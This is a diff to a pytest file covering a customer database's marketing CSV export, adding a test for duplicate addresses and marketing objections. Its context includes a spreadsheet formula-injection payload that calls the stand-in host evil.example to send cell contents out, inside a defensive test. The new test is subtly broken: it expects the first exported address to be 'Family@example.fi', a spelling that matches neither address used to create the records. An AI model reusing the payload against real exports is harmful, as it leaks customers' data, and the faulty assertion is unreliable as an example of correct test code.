@@ -17,6 +17,7 @@ def people(db, officer, clock):
             officer,
             {"first_name": first, "last_name": "Test", "email": email, "phone": "040 123 4567"},
             {"street": "Katu 1", "postcode": "00730", "city": "Helsinki"},
+            allow_duplicate=True,  # one shared phone: look-alikes on purpose
         )
         return c["id"]
 
@@ -105,3 +106,38 @@ def test_marketing_csv_cells_never_run_as_formulas(people, officer):
     audience.write_csv(officer, "marketing", out)
     names = {r["first_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
     assert '\'=HYPERLINK("http://evil.example/?"&A2)' in names
+
+
+def _shared(officer, first, email, **kw):
+    c = customers.create(
+        officer, {"first_name": first, "last_name": "Family", "email": email}, allow_duplicate=True
+    )
+    return c["id"]
+
+
+def _marketing_emails(officer) -> list[str]:
+    out = io.StringIO()
+    audience.write_csv(officer, "marketing", out)
+    return [r["email"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
+
+
+@pytest.mark.parametrize("batch", [5000, 2])
+def test_marketing_lists_an_address_once_and_never_one_anyone_objected_with(
+    db, officer, clock, monkeypatch, batch
+):
+    monkeypatch.setattr(audience, "BATCH", batch)  # holders of one address across batches
+    for n in range(5):
+        _shared(officer, f"Kid{n}", "family@example.fi" if n % 2 else "Family@Example.fi")
+    objector = _shared(officer, "Anna", "avirtanen@gmail.com")
+    for n in range(4):
+        _shared(officer, f"Copy{n}", "avirtanen@gmail.com")
+    held = _shared(officer, "Held", "held@example.fi")
+    _shared(officer, "Free", "held@example.fi")
+    _shared(officer, "Solo", "solo@example.fi")
+    customers.set_objection(officer, objector, "marketing", True)
+    Customer.update(restricted=True).where(Customer.id == held).execute()
+    emails = _marketing_emails(officer)
+    assert sorted(e.lower() for e in emails) == ["family@example.fi", "solo@example.fi"]
+    assert emails[0] == "Family@example.fi"  # the lowest id's record speaks for the address
+    customers.set_objection(officer, objector, "marketing", False)
+    assert "avirtanen@gmail.com" in _marketing_emails(officer)
